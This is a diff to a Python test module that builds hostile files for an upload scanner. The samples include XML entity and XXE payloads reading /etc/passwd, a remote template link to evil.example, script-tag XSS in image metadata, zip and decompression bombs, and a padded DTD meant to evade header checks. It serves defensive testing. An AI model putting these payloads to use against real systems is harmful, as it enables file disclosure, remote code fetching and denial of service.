@@ -1,11 +1,13 @@
 """Builders of hostile files; nothing is downloaded."""
 
 import io
+import random
 import struct
 import zipfile
 import zlib
 
 from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 
 from tests.servers.clamd import EICAR
 
@@ -16,8 +18,7 @@ BOOK = '<?xml version="1.0"?><workbook xmlns="x"/>'
 LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(
     f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]><x>&i;</x>"
 XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
-TEMPLATE = ('<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
-            'TargetMode="External"/></Relationships>')
+SCRIPT = b"<script>alert(1)</script>"
 MOST = 10 * 2**20
 
 
@@ -35,6 +36,27 @@ def docx(*more):
 
 def xlsx(*more):
     return zipped([("[Content_Types].xml", TYPES), ("xl/workbook.xml", BOOK), *more])
+
+
+def noted(kind, part, media_type):
+    """A document that says of one of its parts what it is."""
+    types = TYPES.replace("/>", f'><Override PartName="/{part}" ContentType="{media_type}"/></Types>')
+    main = ("word/document.xml", WORD) if kind == "docx" else ("xl/workbook.xml", BOOK)
+    more = [(part, "x")] if part != main[0] else []
+    return zipped([("[Content_Types].xml", types), main, *more])
+
+
+def related(kind, mode="External"):
+    """Notes of a document that one of its parts lies elsewhere."""
+    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
+            f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+            f'Target="http://evil.example/t.dotm" TargetMode="{mode}"/></Relationships>')
+
+
+def far_down(text):
+    """The same XML with so much before its DTD that a look at the beginning does not find it."""
+    head, rest = text.split("?>", 1)
+    return f"{head}?><!--{random.Random(2).randbytes(100_000).hex()}-->{rest}"
 
 
 def pdf(*objects, trailer=b""):
@@ -56,12 +78,16 @@ def picture(kind="JPEG", size=(40, 30), **options):
     return made.getvalue()
 
 
-def located_photo():
+def located_photo(kind="JPEG"):
     """A photo that tells where it was taken, with a script in its comment."""
     exif = Image.Exif()
     exif.get_ifd(0x8825).update({1: "N", 2: (14.0, 41.0, 34.0), 3: "W", 4: (17.0, 26.0, 48.0)})
     exif[0x010F] = "SecretCamera"
-    return picture(exif=exif, comment=b"<script>alert(1)</script>")
+    if kind != "PNG":
+        return picture(kind, exif=exif, **({"comment": SCRIPT} if kind == "JPEG" else {"xmp": SCRIPT}))
+    words = PngInfo()
+    words.add_text("Comment", SCRIPT.decode())
+    return picture(kind, exif=exif, pnginfo=words)
 
 
 def flood(width=50_000, height=50_000):
@@ -97,11 +123,16 @@ def overlapping():
     return data[:at + 42] + struct.pack("<I", 0) + data[at + 46:]
 
 
-def nested():
+def large_in_all():
+    """Little enough packed to look honest, but 51 MB in all."""
+    return docx(("word/noise.bin", random.Random(1).randbytes(2**20)), ("word/a.bin", b"0" * (50 * 2**20)))
+
+
+def nested(name="word/42.zip"):
     inner = zipped([("a.txt", b"0" * 1000)])
     for level in range(5):
         inner = zipped([(f"{level}.zip", inner)])
-    return docx(("word/42.zip", inner))
+    return docx((name, inner))
 
 
 def quine():
